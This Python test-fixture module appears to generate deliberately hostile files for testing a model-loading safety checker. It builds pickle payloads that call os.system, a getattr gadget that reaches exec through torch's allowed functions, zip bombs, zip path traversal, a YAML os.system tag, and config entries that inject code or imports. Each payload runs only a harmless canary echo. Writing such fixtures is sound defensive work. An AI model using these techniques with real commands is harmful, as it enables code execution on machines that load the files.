"""Files that would run code if they were read as their authors wish.

Each calls ``os.system`` with, writes, or imports something whose name holds :data:`CANARY`.
"""

import io
import json
import os
import pickle
import struct
import tarfile
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import torch

CANARY = 'ostr_canary'
COMMAND = f'echo {CANARY}'
CODE = f"__import__('os').system('{COMMAND}')"
CELL = '|nor_conv_3x3~0|+|nor_conv_3x3~0|nor_conv_3x3~1|+|skip_connect~0|none~1|none~2|'


class Evil:
    """Pickles as a call of ``os.system``."""

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (COMMAND,)


def _text(value: str) -> bytes:
    return b'X' + struct.pack('<I', len(value)) + value.encode()


def _get(target: bytes, name: str) -> bytes:
    return b'cbuiltins\ngetattr\n(' + target + _text(name) + b'tR'


#: ``exec`` is reached from a function that torch allows, by ``getattr`` alone.
GADGET = (
    b'\x80\x02'
    + _get(
        _get(
            _get(b'ctorch._utils\n_rebuild_tensor_v2\n', '__globals__'),
            '__getitem__',
        )
        + b'('
        + _text('__builtins__')
        + b'tR',
        '__getitem__',
    )
    + b'('
    + _text('exec')
    + b'tR('
    + _text(CODE)
    + b'tR.'
)
#: All names are on torch's own list; a codec would be imported for its name.
LISTED = (
    b'\x80\x02ctorch._tensor\n_rebuild_from_type_v2\n(c_codecs\nencode\nctorch\nTensor\n('
    + _text('x')
    + _text(CANARY)
    + b't}tR.'
)


def archive(path: Path, content: bytes, compression: int = zipfile.ZIP_STORED) -> None:
    """A file as torch writes it, around any pickle."""
    with zipfile.ZipFile(path, 'w', compression) as stream:
        stream.writestr('archive/data.pkl', content)
        stream.writestr('archive/byteorder', b'little')
        stream.writestr('archive/version', b'3\n')


def pickled(path: Path) -> None:
    torch.save({'state_dict': {}, 'meta': Evil()}, path)


def objects(path: Path) -> None:
    torch.save({'state_dict': {}, 'x': np.array([Evil()], dtype=object)}, path)


def legacy(path: Path) -> None:
    torch.save({'state_dict': Evil()}, path, _use_new_zipfile_serialization=False)


def legacy_tar(path: Path) -> None:
    with tarfile.open(path, 'w') as stream:
        for name in ('sys_info', 'pickle', 'storages', 'tensors'):
            content = pickle.dumps(Evil())
            member = tarfile.TarInfo(name)
            member.size = len(content)
            stream.addfile(member, io.BytesIO(content))


def torch_script(path: Path) -> None:
    with warnings.catch_warnings():
        warnings.simplefilter('ignore')
        torch.jit.script(torch.nn.Linear(1, 1)).save(str(path))


def bomb(path: Path) -> None:
    archive(path, bytes(2**28), zipfile.ZIP_DEFLATED)


def oversized(path: Path) -> None:
    """The directory of the archive promises a terabyte."""
    archive(path, pickle.dumps({'state_dict': {}}, protocol=2))
    data = bytearray(path.read_bytes())
    entry = data.index(b'PK\x01\x02')
    data[entry + 20 : entry + 28] = struct.pack('<II', 2**32 - 2, 2**32 - 2)
    path.write_bytes(data)


def traversal(path: Path) -> None:
    archive(path, pickle.dumps(Evil(), protocol=2))
    with zipfile.ZipFile(path, 'a') as stream:
        stream.writestr(f'../../{CANARY}', b'written outside')


def header(path: Path) -> None:
    path.write_bytes(struct.pack('<Q', 2**62) + json.dumps({'__metadata__': {'a': CODE}}).encode())


def metadata(path: Path) -> None:
    from safetensors.torch import save_file

    save_file({'weight': torch.zeros(1)}, path, {'config': CODE, 'ostrdet': CODE})


#: Checkpoints by family: the suffix, and what writes the file.
CHECKPOINTS: dict[str, tuple[str, Callable[[Path], None]]] = {
    'pickle': ('.pth', pickled),
    'getattr gadget': ('.pth', lambda path: archive(path, GADGET)),
    'names of the allow-list': ('.pth', lambda path: archive(path, LISTED)),
    'object array': ('.pth', objects),
    'bare pickle': ('.pth', lambda path: path.write_bytes(pickle.dumps(Evil())) and None),
    'legacy pickle': ('.pth', legacy),
    'legacy tar': ('.pth', legacy_tar),
    'TorchScript': ('.pth', torch_script),
    'zip bomb': ('.pth', bomb),
    'oversized directory': ('.pth', oversized),
    'zip traversal': ('.pth', traversal),
    'safetensors header': ('.safetensors', header),
    'safetensors metadata': ('.safetensors', metadata),
}

#: Configs by family: the suffix and the text; ``evil.py`` lies beside them.
CONFIGS: dict[str, tuple[str, str]] = {
    'YAML tag': ('.yaml', f'model: !!python/object/apply:os.system ["{COMMAND}"]'),
    'YAML module': ('.yml', f'model: !!python/module:{CANARY} x'),
    'JSON dotted type': ('.json', json.dumps({'model': {'type': f'{CANARY}.Thing'}})),
    'JSON call': ('.json', json.dumps({'model': {'type': 'os.system', 'command': COMMAND}})),
    'JSON scope': ('.json', json.dumps({'default_scope': CANARY, 'model': {'type': 'X'}})),
    'JSON inner scope': ('.json', json.dumps({'model': {'type': 'X', '_scope_': CANARY}})),
    'JSON custom imports': ('.json', json.dumps({'custom_imports': {'imports': [CANARY]}})),
    'JSON with a .py base': ('.json', json.dumps({'_base_': './evil.py'})),
    'JSON with a JSON with a .py base': ('.json', json.dumps({'_base_': './inner.json'})),
    'JSON template': ('.json', json.dumps({'model': '{{' + CODE + '}}'})),
    **{
        f'JSON {family}': ('.json', json.dumps({'model': {'type': 'X', **inner}}))
        for family, inner in {
            'nms': {'test_cfg': {'nms': {'type': CODE}}},
            'nms of a proposal': {'train_cfg': {'rpn_proposal': {'nms': {'type': 'print'}}}},
            'data type': {'pipeline': [{'type': 'ConvertImageDtype', 'dtype': CODE}]},
            'attribute of a data type': {'mixed_precision': {'param_dtype': 'hub.load'}},
            'motion': {'cmc': {'type': 'CameraMotionCompensation', 'warp_mode': CODE}},
            'type that is code': {'backbone': {'type': CODE}},
            'name at another key': {'hook': {'ema_type': f'{CANARY}.Thing'}},
            'wrapping policy': {'auto_wrap_policy': f'{CANARY}.Thing'},
            'code beside weights': {'tokenizer': {'type': 'X', 'trust_remote_code': True}},
        }.items()
    },
    'JSON compiler': ('.json', json.dumps({'model': {'type': 'X'}, 'compile': {'options': {}}})),
    'pickle': ('.pkl', 'cos\nsystem\n(V' + COMMAND + '\ntR.'),
}

#: By --cfg-options of a good config.
OPTIONS: dict[str, str] = {
    'dotted type': f'model.type={CANARY}.Thing',
    'dotted type far inside': f'model.supernet.norm_cfg.type={CANARY}.Thing',
    'dotted type of a hook': f'default_hooks.timer.type={CANARY}.hooks.Thing',
    'type at an unknown key': f'model.data_preprocessor.other.type={CANARY}.Thing',
    'constructor': f'optim_wrapper.constructor={CANARY}.Thing',
    'default scope': f'default_scope={CANARY}',
    'code as a value': f'train_cfg.max_epochs={CODE}',
    'weights at an address': 'load_from=https://127.0.0.1:9/w.pth',
    'nms': f'model.test_cfg.nms.type={CODE}',
    'nms by a name': 'model.test_cfg.nms.type=print',
    'annotations in a pickle': 'train_dataloader.dataset.ann_file=labels.pkl',
}

#: Genotypes as texts.
GENOTYPES: dict[str, str] = {
    'call in a namedtuple': f'Genotype(normal={CODE}, normal_concat=[], reduce=[], reduce_concat=[])',
    'call as an operation': f'Genotype(normal=[({CODE}, 0)], normal_concat=[2])',
    'code after a namedtuple': f'Genotype(normal=[], normal_concat=[]); {CODE}',
    'code in a string': f'|{CODE}~0|+|none~0|none~1|+|none~0|none~1|none~2|',
}

#: Genotypes as files.
GENOTYPE_FILES: dict[str, bytes] = {
    'pickle': pickle.dumps(Evil()),
    'code': CODE.encode(),
    'operation': json.dumps(
        {
            'format': 'ostrdet.genotype',
            'version': 1,
            'space': {'type': f'{CANARY}.Thing'},
            'cells': {},
        }
    ).encode(),
}


def benchmark(folder: Path, of_cell: bool) -> None:
    """A NATS-Bench folder whose list of cells, or file of a cell, is hostile."""
    import bz2

    folder.mkdir()
    meta = pickle.dumps({'meta_archs': [CELL]} if of_cell else Evil())
    (folder / 'meta.pickle.pbz2').write_bytes(bz2.compress(meta))
    (folder / '000000.pickle.pbz2').write_bytes(bz2.compress(pickle.dumps(Evil())))


def images(folder: Path) -> None:
    """The folders of CIFAR and of ImageNet16 with hostile batches."""
    cifar = folder / 'cifar-10-batches-py'
    cifar.mkdir(parents=True)
    names = [*(f'data_batch_{i}' for i in range(1, 6)), 'test_batch', 'batches.meta']
    for path in (
        *(cifar / name for name in names),
        *(folder / f'train_data_batch_{i}' for i in range(1, 11)),
        folder / 'val_data',
    ):
        path.write_bytes(pickle.dumps(Evil()))
